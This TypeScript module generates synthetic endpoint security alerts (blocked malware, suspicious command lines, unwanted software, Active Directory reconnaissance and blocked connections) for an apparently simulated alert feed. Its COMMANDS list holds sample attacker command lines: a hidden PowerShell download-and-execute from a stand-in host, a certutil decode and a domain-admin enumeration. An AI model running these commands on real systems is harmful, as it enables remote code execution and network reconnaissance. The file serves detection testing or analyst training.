// Everyday incidents on devices: blocked malware, odd command lines, unwanted software, directory reconnaissance.
import { DEVICES, file, hostLogonSession, malware, processChain, registryKey } from '../devices.ts';
import type { Host } from '../devices.ts';
import { ip, url } from '../network.ts';
import { account, activeDirectoryDomain, PEOPLE, securityGroup, user } from '../people.ts';
import type { Person } from '../people.ts';
import type { Random } from '../random.ts';
import { seen } from '../script.ts';
import type { AlertScript } from '../script.ts';
import { staggered } from './pattern.ts';
import type { Pattern } from './pattern.ts';

const STATIONS: readonly (readonly [Host, Person])[] = [
  ['lt-aokafor', PEOPLE.aisha],
  ['lt-dferreira', PEOPLE.diego],
  ['lt-hweber', PEOPLE.hanna],
  ['lt-lmoretti', PEOPLE.luca],
  ['lt-ehaugen', PEOPLE.erik],
  ['lt-gobrien', PEOPLE.grace],
  ['lt-epetrova', PEOPLE.elena],
  ['lt-cmartin', PEOPLE.chloe],
  ['ws-dispatch-07', PEOPLE.marek],
  ['ws-gate-11', PEOPLE.oscar],
  ['ws-crane-02', PEOPLE.finn],
];

const MALWARE = [
  ['Trojan:Win32/Wacatac.B!ml', 'Wacatac', 'C:\\Users\\{user}\\Downloads\\packing_list_88213.iso'],
  ['Trojan:Script/Sabsik.FL.A!ml', 'Sabsik', 'C:\\Users\\{user}\\Downloads\\DHL_label.js'],
  ['TrojanDownloader:O97M/Obfuse.RVB', 'Obfuse', 'C:\\Users\\{user}\\Documents\\rates_Q4.xlsm'],
  ['HackTool:Win32/AutoKMS', 'AutoKMS', 'C:\\Users\\{user}\\Downloads\\office_activator.exe'],
  ['Worm:Win32/Gamarue.AR', 'Gamarue', 'E:\\drivers\\~$WBXXLJ.FAT32.1'],
] as const;

function blockedMalware(random: Random): ReturnType<Pattern> {
  const [name, family, template] = random.pick(MALWARE);
  const places = random.some(STATIONS, random.between(3, 11));
  return {
    priority: 8 + places.length * 3,
    tells: `Microsoft Defender Antivirus stopped ${name} before it could run.`,
    alerts: places.map(([host, who], index): AlertScript => {
      const on = DEVICES[host];
      const sample = file(on, template.replace('{user}', who.accountName), 'prevented');
      return {
        after: `${index * random.between(7, 50)}m`,
        from: 'antivirus',
        title: `'${family}' malware was prevented`,
        severity: places.length > 5 ? 'low' : 'informational',
        category: 'Malware',
        techniques: ['T1204.002'],
        tells: `Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. Detected as ${name}.`,
        advice: 'Find out how the file arrived. Run a full scan of the device.',
        investigation: 'successfullyRemediated',
        threat: name,
        family,
        evidence: [
          seen(on, 'attacked', { detailedRoles: ['Main device'] }),
          seen(sample, 'suspicious', { verdict: 'malicious', remediation: 'prevented' }),
          seen(malware(name, 'Trojan', [sample]), 'suspicious', {
            verdict: 'malicious',
            remediation: 'prevented',
          }),
          seen(user(who), 'contextual'),
        ],
      };
    }),
  };
}

const COMMANDS = [
  [
    'Suspicious PowerShell command line',
    'Execution',
    'T1059.001',
    'powershell.exe -NoP -W Hidden -c "iwr https://cdn-pack.example/u.ps1 -UseB | iex"',
  ],
  [
    'Suspicious use of certutil.exe to decode an executable',
    'DefenseEvasion',
    'T1140',
    'powershell.exe -c "certutil -decode $env:TEMP\\inv.txt $env:TEMP\\inv.exe"',
  ],
  [
    'Suspicious sequence of exploration activities',
    'Discovery',
    'T1087.002',
    'powershell.exe -c "whoami /all; net group \'Domain Admins\' /domain; nltest /dclist:"',
  ],
] as const;

function oddCommandLine(random: Random): ReturnType<Pattern> {
  const commands = random.some(COMMANDS, random.between(1, 3));
  const places = random.some(STATIONS, random.between(1, 3));
  return {
    priority: random.between(30, 62),
    alerts: staggered(places, 25, ([host, who]) =>
      commands.map(([title, category, technique, command], index): AlertScript => ({
        after: `${index * 11}m`,
        from: 'endpoint',
        title,
        severity: category === 'Discovery' ? 'low' : 'medium',
        category,
        techniques: [technique, 'T1059.001'],
        tells: `A process on ${host} was started with a command line that attackers use more often than administrators.`,
        advice:
          'Ask the owner of the device what they were doing. Inspect the process tree and what it downloaded.',
        evidence: [
          seen(DEVICES[host], 'compromised', { detailedRoles: ['Main device'] }),
          ...processChain({
            on: DEVICES[host],
            as: account(who),
            steps: [
              ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
              ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', command],
            ],
          }),
          seen(user(who), 'compromised'),
          seen(url('https://cdn-pack.example/u.ps1'), 'suspicious', { verdict: 'suspicious' }),
        ],
      })),
    ),
  };
}

function unwantedSoftware(random: Random): ReturnType<Pattern> {
  const places = random.some(STATIONS, random.between(6, 11));
  return {
    priority: random.between(3, 12),
    alerts: places.map(([host, who], index): AlertScript => {
      const on = DEVICES[host];
      return {
        after: `${index * 23}m`,
        from: 'antivirus',
        title: "'Presenoker' unwanted software was detected",
        severity: 'low',
        category: 'UnwantedSoftware',
        techniques: ['T1204.002'],
        tells:
          'An installer bundled with a free PDF tool offers more software than its user asked for.',
        investigation: 'partiallyRemediated',
        threat: 'PUA:Win32/Presenoker',
        family: 'Presenoker',
        evidence: [
          seen(on, 'attacked'),
          seen(
            file(on, `C:\\Users\\${who.accountName}\\Downloads\\pdf_ease_setup.exe`),
            'suspicious',
            {
              verdict: 'suspicious',
              remediation: 'pendingApproval',
            },
          ),
          seen(
            registryKey(
              'HKEY_CURRENT_USER',
              'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\PdfEase',
            ),
            'created',
            {
              verdict: 'suspicious',
            },
          ),
        ],
      };
    }),
  };
}

const RECONNAISSANCE = [
  ['Account enumeration reconnaissance', 'Discovery', 'T1087.002', 'medium'],
  ['User and Group membership reconnaissance (SAMR)', 'Discovery', 'T1069.002', 'medium'],
  ['Suspected brute-force attack (Kerberos, NTLM)', 'CredentialAccess', 'T1110.001', 'medium'],
  ['Active Directory attributes Reconnaissance using LDAP', 'Discovery', 'T1087.002', 'medium'],
] as const;

function directoryReconnaissance(random: Random): ReturnType<Pattern> {
  const places = random.some(STATIONS, random.between(1, 3));
  const questions = random.some(RECONNAISSANCE, random.between(2, 4));
  return {
    priority: random.between(35, 70),
    alerts: staggered(places, 41, ([host, who]) =>
      questions.map(([title, category, technique, severity], index): AlertScript => ({
        after: `${index * 19}m`,
        from: 'identity',
        title,
        severity,
        category,
        techniques: [technique],
        tells: `${host} asked nwh-dc01 about accounts and groups in a way that no other device does.`,
        advice: 'Find out which tool asked, and whether a vulnerability scan was planned.',
        evidence: [
          seen(DEVICES[host], 'source', { detailedRoles: ['Source device'] }),
          seen(DEVICES['nwh-dc01'], ['destination', 'attacked']),
          seen(user(who), ['compromised', 'source']),
          seen(hostLogonSession(DEVICES[host], user(who)), 'contextual'),
          seen(securityGroup('Domain Admins'), 'attacked'),
          seen(activeDirectoryDomain(), 'contextual'),
        ],
      })),
    ),
  };
}

function indicatorHit(random: Random): ReturnType<Pattern> {
  const places = random.some(STATIONS, random.between(2, 9));
  return {
    priority: random.between(12, 30),
    alerts: places.map(([host, who], index): AlertScript => {
      const on = DEVICES[host];
      return {
        after: `${index * 31}m`,
        from: index % 2 === 0 ? 'smartScreen' : 'endpoint',
        title:
          index % 2 === 0
            ? 'Suspicious connection blocked by network protection'
            : 'Connection to a custom network indicator',
        severity: 'low',
        category: 'CommandAndControl',
        techniques: ['T1071.001'],
        tells: 'A browser was kept from an address that an indicator list of this tenant names.',
        evidence: [
          seen(on, 'attacked'),
          ...processChain({
            on,
            as: account(who),
            steps: [
              ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
              [
                'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
                'msedge.exe --single-argument https://track-parcel.example/nl',
              ],
            ],
            roles: ['source'],
            judgement: { verdict: 'noThreatsFound' },
          }),
          seen(url('https://track-parcel.example/nl'), 'commandAndControl', {
            verdict: 'malicious',
            remediation: 'blocked',
          }),
          seen(ip('203.0.113.18'), 'destination', {
            verdict: 'suspicious',
            remediation: 'blocked',
          }),
        ],
      };
    }),
  };
}

/** By name. */
export const ENDPOINT_PATTERNS = {
  blockedMalware,
  oddCommandLine,
  unwantedSoftware,
  directoryReconnaissance,
  indicatorHit,
} as const satisfies Record<string, Pattern>;
